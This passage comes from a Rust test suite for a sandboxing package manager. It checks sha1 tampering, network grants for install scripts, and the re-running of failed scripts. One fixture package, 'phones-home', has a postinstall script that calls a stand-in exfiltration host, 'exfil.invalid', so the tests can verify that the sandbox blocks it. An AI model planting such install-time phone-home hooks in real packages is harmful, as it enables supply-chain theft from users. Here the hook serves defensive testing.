    assert!(text(&out).contains("warning:"), "{}", text(&out));
    assert!(p.root.join("node_modules/old/index.js").exists());

    let q = Project::new(r#"{"name":"app","dependencies":{"tampered-old":"1.0.0"}}"#);
    std::fs::write(
        q.root.join(".sandboxpmrc"),
        r#"{"policies":{"onWarn":"continue"}}"#,
    )
    .unwrap();
    let out = q.install(&registry.url(), &[]);
    assert!(
        !out.status.success(),
        "a tarball failing its sha1 was installed"
    );
    assert!(text(&out).contains("tampered-old@1.0.0"), "{}", text(&out));
    assert!(!q.root.join("node_modules/tampered-old").exists());
}

#[cfg(target_os = "linux")]
#[test]
fn a_connection_outside_the_network_grant_is_reported_as_a_block() {
    let registry = FixtureRegistry::start().unwrap();
    // Python's urllib honours the proxy variables the sandbox sets; the grant names one host,
    // the script asks for another. Then it does its real work (the control).
    let script = "python3 -c \"import urllib.request\ntry:\n  urllib.request.urlopen('http://exfil.invalid/', timeout=10)\nexcept Exception as e:\n  print('refused', e)\nopen('built.txt','w').write('BUILT')\"";
    let pkg = PackageBuilder::new("phones-home", "1.0.0")
        .script("postinstall", script)
        .file("index.js", "")
        .build()
        .unwrap();
    registry.add(&pkg);
    let p = Project::new(r#"{"name":"app","dependencies":{"phones-home":"1.0.0"}}"#);
    let home = p.root.parent().unwrap().join("fake-home");
    std::fs::create_dir_all(&home).unwrap();
    let built = p
        .root
        .join("node_modules/.sandboxpm/phones-home@1.0.0/node_modules/phones-home/built.txt");
    let rc = |on_block: &str| {
        std::fs::write(
            p.root.join(".sandboxpmrc"),
            format!(
                r#"{{"whitelist":["phones-home@1.0.0"],"policies":{{"onBlock":"{on_block}"}},
                "sandbox":{{"packages":{{"phones-home":{{"network":["allowed.invalid:443"]}}}}}}}}"#
            ),
        )
        .unwrap();
    };
    rc("abort");
    let out = install_with_home(&p, &registry.url(), &home);
    let t = text(&out);
    assert!(
        !out.status.success(),
        "the block did not stop the install: {t}"
    );
    assert!(
        t.contains(
            "blocked: phones-home@1.0.0 postinstall: connection to exfil.invalid:80 refused"
        ),
        "{t}"
    );
    assert!(built.exists(), "the control did not run: {t}");

    // `continue`: reported in the summary, the install succeeds.
    std::fs::remove_dir_all(p.root.join("node_modules")).unwrap();
    rc("continue");
    let out = install_with_home(&p, &registry.url(), &home);
    let t = text(&out);
    assert!(out.status.success(), "{t}");
    assert!(
        t.contains("postinstall: connection to exfil.invalid:80 refused"),
        "{t}"
    );
}

#[cfg(target_os = "linux")]
#[test]
fn a_failed_script_is_not_recorded_and_runs_again_next_install() {
    let registry = FixtureRegistry::start().unwrap();
    let pkg = PackageBuilder::new("breaks", "1.0.0")
        .script("postinstall", "echo run >> runs.txt; exit 3")
        .file("index.js", "")
        .build()
        .unwrap();
    registry.add(&pkg);
    let p = Project::new(r#"{"name":"app","dependencies":{"breaks":"1.0.0"}}"#);
    std::fs::write(
        p.root.join(".sandboxpmrc"),
        r#"{"whitelist": ["breaks@1.0.0"]}"#,
    )
    .unwrap();
    let home = p.root.parent().unwrap().join("fake-home");
    std::fs::create_dir_all(&home).unwrap();
    let virtual_dir = p.root.join("node_modules/.sandboxpm/breaks@1.0.0");
    for run in 1..=2 {
        let out = install_with_home(&p, &registry.url(), &home);
        let t = text(&out);
        assert!(!out.status.success(), "a failing script passed: {t}");
        assert!(
            t.contains("breaks@1.0.0") && t.contains("exit code 3"),
            "{t}"
        );
        assert!(!virtual_dir.join(".sandboxpm-scripts-done").exists());
        assert!(!virtual_dir.join(".sandboxpm-scripts-pending").exists());
        let runs =
            std::fs::read_to_string(virtual_dir.join("node_modules/breaks/runs.txt")).unwrap();
        assert_eq!(runs.lines().count(), run, "{runs}");
    }
}
